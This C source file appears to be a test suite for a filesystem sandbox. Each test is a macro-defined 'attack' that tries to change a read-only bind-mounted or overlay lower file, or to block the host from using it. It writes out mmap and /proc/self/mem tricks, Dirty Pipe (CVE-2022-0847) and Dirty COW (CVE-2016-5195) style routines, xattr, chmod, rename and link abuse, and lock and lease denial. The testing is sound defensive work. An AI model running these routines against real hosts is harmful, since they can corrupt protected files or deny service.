// Changing a file that is only shown: a lower file (whose changes go to the upper) and a file of a `--bind :ro`, by each
// way that the kernel has of changing one. Each way is tried on both.
#define CLASS "readonly"
#include "attack.h"
#include <linux/falloc.h>
#include <linux/fs.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <sys/time.h>
#include <sys/xattr.h>

static const char *const victims[] = {"/ro/victim", "/lower/victim"};
#define EACH_VICTIM             \
    for (int i = 0; i < 2; i++) \
        for (const char *path = in(victims[i]); path; path = NULL)
#define EACH_DIRECTORY          \
    for (int i = 0; i < 2; i++) \
        for (const char *path = in(i ? "/lower" : "/ro"); path; path = NULL)
static const char *below(const char *directory, const char *name) {
    static char text[2][4096];
    static int turn;
    snprintf(text[turn ^= 1], 4096, "%s/%s", directory, name);
    return text[turn];
}

ATTACK(open_for_writing, change, 0, "open O_WRONLY and O_RDWR, write") {
    EACH_VICTIM {
        deface(open(path, O_WRONLY));
        deface(open(path, O_RDWR));
    }
}
ATTACK(open_append, change, 0, "open O_APPEND, write") {
    EACH_VICTIM {
        int fd = open(path, O_WRONLY | O_APPEND);
        say("write", write(fd, "x", 1));
    }
}
ATTACK(open_truncate, change, 0, "open O_RDONLY|O_TRUNC: truncates with read access only") { EACH_VICTIM say("open", open(path, O_RDONLY | O_TRUNC)); }
ATTACK(open_mode_three, change, 0, "open with access mode 3 and O_TRUNC") { EACH_VICTIM say("open", open(path, 3 | O_TRUNC)); }
ATTACK(creat_over, change, 0, "creat of an existing file") { EACH_VICTIM deface(creat(path, 0666)); }
ATTACK(truncate_path, change, 0, "truncate(2)") { EACH_VICTIM say("truncate", truncate(path, 3)); }
ATTACK(ftruncate_written, change, 0, "ftruncate of a descriptor for writing") { EACH_VICTIM say("ftruncate", ftruncate(open(path, O_RDWR), 3)); }
ATTACK(mmap_shared_write, change, 0, "MAP_SHARED of a descriptor for writing") {
    EACH_VICTIM {
        int fd = open(path, O_RDWR);
        char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        say("mmap", p == MAP_FAILED ? -1 : 0);
        if (p != MAP_FAILED) p[0] = 'X', msync(p, 4096, MS_SYNC);
    }
}
ATTACK(mprotect_shared, change, 0, "MAP_SHARED of a read-only descriptor, made writable by mprotect; the same after a copy-up, through the old mapping") {
    EACH_VICTIM {
        int fd = open(path, O_RDONLY), other;
        char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        if (p == MAP_FAILED) continue;
        say("mprotect", mprotect(p, 4096, PROT_READ | PROT_WRITE));
        if ((other = open(path, O_WRONLY)) >= 0) deface(other);
        say("mprotect", mprotect(p, 4096, PROT_READ | PROT_WRITE));
        pid_t child = forked();
        if (child == 0) p[1] = 'X', _exit(0);
        waitpid(child, NULL, 0);
    }
}
ATTACK(memory_of_self, change, 0,
       "write a shared mapping of a read-only file by /proc/self/mem, which ignores protections; natively after opening it for writing") {
    EACH_VICTIM {
        int fd = open(path, inside ? O_RDONLY : O_RDWR), memory = open("/proc/self/mem", O_RDWR);
        char *p = mmap(NULL, 4096, inside ? PROT_READ : PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (p != MAP_FAILED) say("pwrite", pwrite(memory, "XX", 2, (off_t)(uintptr_t)p));
        struct iovec local = {"YY", 2}, remote = {p, 2};
        if (p != MAP_FAILED) say("process_vm_writev", process_vm_writev(getpid(), &local, 1, &remote, 1, 0));
    }
}
ATTACK(remap_pages, change, 0, "remap_file_pages and mremap of a shared mapping, then a write") {
    EACH_VICTIM {
        int fd = open(path, inside ? O_RDONLY : O_RDWR);
        char *p = mmap(NULL, 8192, inside ? PROT_READ : PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (p == MAP_FAILED) continue;
        say("remap_file_pages", syscall(SYS_remap_file_pages, p, 4096, 0, 0, 0));
        char *q = mremap(p, 4096, 4096, MREMAP_MAYMOVE);
        if (q == MAP_FAILED) continue;
        say("mprotect", mprotect(q, 4096, PROT_READ | PROT_WRITE));
        pid_t child = forked();
        if (child == 0) q[0] = 'X', _exit(0);
        waitpid(child, NULL, 0);
    }
}
ATTACK(inode_flags, change, 0, "ioctl FS_IOC_SETFLAGS: nodump and noatime on a read-only descriptor") {
    EACH_VICTIM {
        int fd = open(path, O_RDONLY), flags = 0;
        say("get", ioctl(fd, FS_IOC_GETFLAGS, &flags));
        flags |= FS_NODUMP_FL | FS_NOATIME_FL;
        say("set", ioctl(fd, FS_IOC_SETFLAGS, &flags));
        say("set, 64 bits", syscall(SYS_ioctl, fd, 0x100000000ul | FS_IOC_SETFLAGS, &flags));
    }
}
ATTACK(inode_xflags, change, 0, "ioctl FS_IOC_FSSETXATTR") {
    EACH_VICTIM {
        int fd = open(path, O_RDONLY);
        struct fsxattr x;
        memset(&x, 0, sizeof x);
        say("get", ioctl(fd, FS_IOC_FSGETXATTR, &x));
        x.fsx_xflags |= FS_XFLAG_NODUMP;
        say("set", ioctl(fd, FS_IOC_FSSETXATTR, &x));
    }
}
ATTACK(file_setattr, change, 0, "file_setattr(2), the call of Linux 6.17") {
    EACH_VICTIM {
        struct {
            uint64_t xflags;
            uint32_t extent, count, project, cow;
        } x = {0x80 /* nodump */, 0, 0, 0, 0};
        say("file_setattr", syscall(469, AT_FDCWD, path, &x, sizeof x, 0));
    }
}
ATTACK(directory_flags, change, 0, "FS_IOC_SETFLAGS on a directory") {
    EACH_DIRECTORY {
        int fd = open(path, O_RDONLY | O_DIRECTORY), flags = FS_NODUMP_FL | FS_NOATIME_FL;
        say("set", ioctl(fd, FS_IOC_SETFLAGS, &flags));
    }
}
ATTACK(fallocate_punch, change, 0, "fallocate: a hole in it") {
    EACH_DIRECTORY {
        const char *big = below(path, "big");
        say("fallocate", fallocate(open(big, O_RDONLY), FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 8192));
        say("fallocate", fallocate(open(big, O_RDWR), FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 8192));
    }
}
ATTACK(copied_into, change, 0, "copy_file_range into it") {
    EACH_DIRECTORY {
        int from = open(below(path, "other"), O_RDONLY);
        for (int mode = 0; mode < 3; mode++) say("copy_file_range", copy_file_range(from, &(off_t){0}, open(below(path, "victim"), mode), &(off_t){0}, 4, 0));
    }
}
ATTACK(spliced_into, change, 0, "splice and vmsplice into it") {
    EACH_VICTIM {
        int ends[2];
        if (pipe(ends) != 0) continue;
        struct iovec vector = {"SPLICED", 7};
        for (int mode = 0; mode < 3; mode++) {
            say("vmsplice", vmsplice(ends[1], &vector, 1, SPLICE_F_NONBLOCK));
            say("splice", splice(ends[0], NULL, open(path, mode), &(off_t){0}, 7, SPLICE_F_NONBLOCK));
        }
    }
}
ATTACK(sent_into, change, 0, "sendfile into it") {
    EACH_DIRECTORY {
        int from = open(below(path, "other"), O_RDONLY);
        for (int mode = 0; mode < 3; mode++) say("sendfile", sendfile(open(below(path, "victim"), mode), from, &(off_t){0}, 4));
    }
}
ATTACK(pipe_page_write, change, 0, "a page of it spliced into a pipe and written to there (CVE-2022-0847); natively shown by a plain write") {
    EACH_VICTIM {
        int ends[2], fd = open(path, O_RDONLY);
        char page[4096] = {0};
        if (pipe(ends) != 0) continue;
        int size = fcntl(ends[1], F_GETPIPE_SZ);
        for (int at = 0; at < size; at += 4096)
            if (write(ends[1], page, 4096) != 4096) break;
        for (int at = 0; at < size; at += 4096)
            if (read(ends[0], page, 4096) != 4096) break;
        say("splice", splice(fd, &(off_t){0}, ends[1], NULL, 1, 0));
        say("write", write(ends[1], "DIRTY", 5));
        if (!inside) deface(open(path, O_WRONLY));
    }
}
ATTACK(cow_race, change, 0, "madvise against a write by /proc/self/mem (CVE-2016-5195); natively shown by a plain write") {
    EACH_VICTIM {
        int memory = open("/proc/self/mem", O_RDWR);
        char *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, open(path, O_RDONLY), 0);
        for (int n = 0; n < 300 && p != MAP_FAILED; n++) {
            ssize_t w = pwrite(memory, "DIRTY", 5, (off_t)(uintptr_t)p);
            (void)w;
            madvise(p, 4096, MADV_DONTNEED);
        }
        if (!inside) deface(open(path, O_WRONLY));
    }
}
ATTACK(times_by_path, change, 0, "utimensat") { EACH_VICTIM say("utimensat", utimensat(AT_FDCWD, path, (struct timespec[2]){{1, 0}, {1, 0}}, 0)); }
ATTACK(times_by_descriptor, change, 0, "futimens on a read-only descriptor") {
    EACH_VICTIM say("futimens", futimens(open(path, O_RDONLY), (struct timespec[2]){{1, 0}, {1, 0}}));
}
ATTACK(times_old, change, 0, "utime, utimes and futimesat") {
    EACH_VICTIM {
        struct timeval t[2] = {{1, 0}, {1, 0}};
        say("utime", syscall(SYS_utime, path, &(long[2]){1, 1}));
        say("utimes", syscall(SYS_utimes, path, t));
        say("futimesat", syscall(SYS_futimesat, AT_FDCWD, path, t));
    }
}
ATTACK(xattr_by_path, change, 0, "setxattr and lsetxattr of user.*") {
    EACH_VICTIM {
        say("setxattr", setxattr(path, "user.x", "1", 1, 0));
        say("lsetxattr", lsetxattr(path, "user.y", "1", 1, 0));
    }
}
ATTACK(xattr_by_descriptor, change, 0, "fsetxattr on a read-only descriptor") {
    EACH_VICTIM say("fsetxattr", fsetxattr(open(path, O_RDONLY), "user.x", "1", 1, 0));
}
ATTACK(xattr_at, change, 0, "setxattrat, the call of Linux 6.13") {
    EACH_VICTIM {
        struct {
            uint64_t value;
            uint32_t size, flags;
        } argument = {(uintptr_t) "1", 1, 0};
        say("setxattrat", syscall(463, AT_FDCWD, path, 0, "user.x", &argument, sizeof argument));
    }
}
ATTACK(xattr_removed, change, 0, "removexattr, fremovexattr, lremovexattr, removexattrat") {
    EACH_VICTIM {
        say("fremovexattr", fremovexattr(open(path, O_RDONLY), "user.canary"));
        say("lremovexattr", lremovexattr(path, "user.canary"));
        say("removexattrat", syscall(466, AT_FDCWD, path, 0, "user.canary"));
        say("removexattr", removexattr(path, "user.canary"));
    }
}
ATTACK(chmod_by_path, change, 0, "chmod, fchmodat") {
    EACH_VICTIM {
        say("chmod", chmod(path, 0600));
        say("fchmodat", fchmodat(AT_FDCWD, path, 0640, 0));
    }
}
ATTACK(chmod_by_descriptor, change, 0, "fchmod on a read-only descriptor, fchmodat2 with AT_EMPTY_PATH on one by O_PATH") {
    EACH_VICTIM {
        say("fchmod", fchmod(open(path, O_RDONLY), 0600));
        say("fchmodat2", syscall(452, open(path, O_PATH), "", 0640, AT_EMPTY_PATH));
    }
}
ATTACK(chown_all, change, NATIVE_ROOT, "chown, lchown, fchown, fchownat") {
    EACH_VICTIM {
        say("chown", chown(path, 1, 1));
        say("lchown", lchown(path, 2, 2));
        say("fchown", fchown(open(path, O_RDONLY), 3, 3));
        say("fchownat", fchownat(open(path, O_PATH), "", 4, 4, AT_EMPTY_PATH));
    }
}
ATTACK(link_out, change, 0, "link of a shown file to another name, then a write to that") {
    EACH_DIRECTORY {
        say("link", link(below(path, "victim"), below(path, "linked")));
        deface(open(below(path, "linked"), O_WRONLY));
        say("link", link(in("/ro/victim"), in("/tmp/linked")));
        deface(open(in("/tmp/linked"), O_WRONLY));
    }
}
ATTACK(link_of_descriptor, change, WRITABLE_BIND, "linkat of a descriptor, by AT_EMPTY_PATH and /proc/self/fd, into a writable bind, then a write") {
    EACH_VICTIM {
        char text[64];
        int fd = open(path, O_RDONLY);
        snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
        say("linkat", linkat(fd, "", AT_FDCWD, in("/rw/linked-1"), AT_EMPTY_PATH));
        say("linkat", linkat(AT_FDCWD, text, AT_FDCWD, in("/rw/linked-2"), AT_SYMLINK_FOLLOW));
        deface(open(in("/rw/linked-1"), O_WRONLY));
        deface(open(in("/rw/linked-2"), O_WRONLY));
    }
}
ATTACK(renamed_away, change, 0, "rename of a shown file") { EACH_DIRECTORY say("rename", rename(below(path, "victim"), below(path, "gone"))); }
ATTACK(renamed_over, change, 0, "rename of another file over it") { EACH_DIRECTORY say("rename", rename(below(path, "other"), below(path, "victim"))); }
ATTACK(renamed_into_bind, change, WRITABLE_BIND, "rename and RENAME_EXCHANGE between a read-only and a writable bind") {
    say("rename", rename(in("/ro/victim"), in("/rw/moved")));
    say("rename", rename(in("/rw/victim"), in("/ro/other")));
    say("exchange", syscall(SYS_renameat2, AT_FDCWD, in("/rw/moved"), AT_FDCWD, in("/ro/dir/file"), 2));
}
ATTACK(exchanged, change, 0, "RENAME_EXCHANGE and RENAME_WHITEOUT") {
    EACH_DIRECTORY {
        say("exchange", syscall(SYS_renameat2, AT_FDCWD, below(path, "other"), AT_FDCWD, below(path, "victim"), 2));
        say("whiteout", syscall(SYS_renameat2, AT_FDCWD, below(path, "other"), AT_FDCWD, below(path, "moved"), 4));
    }
}
ATTACK(unlinked, change, 0, "unlink, unlinkat") {
    EACH_DIRECTORY {
        say("unlink", unlink(below(path, "victim")));
        say("unlinkat", unlinkat(open(path, O_PATH), "other", 0));
    }
}
ATTACK(directory_removed, change, 0, "rmdir, rename of a directory") {
    EACH_DIRECTORY {
        say("rmdir", rmdir(below(path, "empty")));
        say("rename", rename(below(path, "dir"), below(path, "moved")));
    }
}
ATTACK(made_new, change, 0, "open O_CREAT, mkdir, symlink, mkfifo and a bound socket in a shown directory") {
    EACH_DIRECTORY {
        struct sockaddr_un address;
        socklen_t length;
        say("open", open(below(path, "new"), O_WRONLY | O_CREAT, 0666));
        say("mkdir", mkdir(below(path, "new-dir"), 0777));
        say("symlink", symlink("x", below(path, "new-link")));
        say("mknod", mknod(below(path, "new-fifo"), S_IFIFO | 0666, 0));
        if (chdir(path) == 0) {
            int fd = unixSocket("new-socket", false, SOCK_STREAM, &address, &length);
            say("bind", bind(fd, (struct sockaddr *)&address, length));
        }
    }
}
ATTACK(temporary_file, change, 0, "O_TMPFILE in a shown directory, linked") {
    EACH_DIRECTORY {
        char text[64];
        int fd = open(path, O_TMPFILE | O_RDWR, 0666);
        snprintf(text, sizeof text, "/proc/self/fd/%d", fd);
        say("linkat", linkat(AT_FDCWD, text, AT_FDCWD, below(path, "temporary"), AT_SYMLINK_FOLLOW));
    }
}
ATTACK(descriptor_flags, change, 0, "F_SETFL of a read-only descriptor to O_RDWR; natively shown by opening it so") {
    EACH_VICTIM {
        int fd = open(path, inside ? O_RDONLY : O_RDWR);
        say("F_SETFL", fcntl(fd, F_SETFL, O_RDWR | O_APPEND));
        say("write", write(fd, "x", 1));
        say("pwritev2", pwritev2(fd, &(struct iovec){"y", 1}, 1, 0, 0));
    }
}
ATTACK(cloned_into, change, NOT_ON_THIS_HOST, "FICLONE, FICLONERANGE and FIDEDUPERANGE onto it; ext4 has no reflinks") {
    EACH_DIRECTORY {
        int from = open(below(path, "other"), O_RDONLY);
        for (int mode = 0; mode < 3; mode++) {
            int to = open(below(path, "victim"), mode);
            say("FICLONE", ioctl(to, FICLONE, from));
            say("FICLONERANGE", ioctl(to, FICLONERANGE, &(struct file_clone_range){from, 0, 0, 0}));
        }
    }
}
ATTACK(by_proc_fd, change, 0, "open of /proc/self/fd/N of a read-only descriptor for writing and with O_TRUNC") {
    EACH_VICTIM {
        char text[64];
        snprintf(text, sizeof text, "/proc/self/fd/%d", open(path, O_RDONLY));
        deface(open(text, O_RDWR));
        say("truncate", truncate(text, 1));
        say("O_TRUNC", open(text, O_RDONLY | O_TRUNC));
    }
}
ATTACK(lock_flock, deny, 0, "flock LOCK_EX of a shown file: a program of the host that locks it waits") {
    EACH_VICTIM { say("flock", flock(open(path, O_RDONLY), LOCK_EX | LOCK_NB)); }
    hold();
}
ATTACK(lock_shared, deny, 0, "flock LOCK_SH: keeps a writer of the host out") {
    EACH_VICTIM { say("flock", flock(open(path, O_RDONLY), LOCK_SH | LOCK_NB)); }
    hold();
}
ATTACK(lock_record, deny, 0, "F_SETLK with a read lock, the one that a read-only descriptor may have") {
    EACH_VICTIM { say("F_SETLK", fcntl(open(path, O_RDONLY), F_SETLK, &(struct flock){.l_type = F_RDLCK})); }
    hold();
}
ATTACK(lock_description, deny, 0, "F_OFD_SETLK with a read lock") {
    EACH_VICTIM { say("F_OFD_SETLK", fcntl(open(path, O_RDONLY), F_OFD_SETLK, &(struct flock){.l_type = F_RDLCK})); }
    hold();
}
ATTACK(lease_read, deny, 0, "F_SETLEASE with a read lease: an open for writing on the host waits for lease-break-time") {
    EACH_VICTIM { say("F_SETLEASE", fcntl(open(path, O_RDONLY), F_SETLEASE, F_RDLCK)); }
    hold();
}
ATTACK(lease_write, deny, 0, "F_SETLEASE with a write lease: every open on the host waits") {
    EACH_VICTIM for (int mode = 0; mode < 3; mode += 2) {
        int fd = open(path, mode);
        if (fcntl(fd, F_SETLEASE, F_WRLCK) == 0) break;
        say("F_SETLEASE", -1);
        close(fd);
    }
    hold();
}
ATTACK(busy_text, deny, 0, "a shown file executed or mapped so that the host gets ETXTBSY") {
    EACH_DIRECTORY {
        pid_t child = forked();
        if (child == 0) {
            char *const arguments[] = {"x", NULL};
            if (!inside) chmod(below(path, "victim"), 0777);
            // Natively the victim itself becomes a program.
            int from = open("/proc/self/exe", O_RDONLY), to = inside ? -1 : open(below(path, "victim"), O_WRONLY | O_TRUNC);
            if (to >= 0) {
                while (sendfile(to, from, NULL, 1 << 24) > 0) {}
                close(to);
            }
            setenv("ESCAPE_SLEEPER", "1", 1);
            execv(below(path, "victim"), arguments);
            _exit(1);
        }
    }
    usleep(100000);
    hold();
}
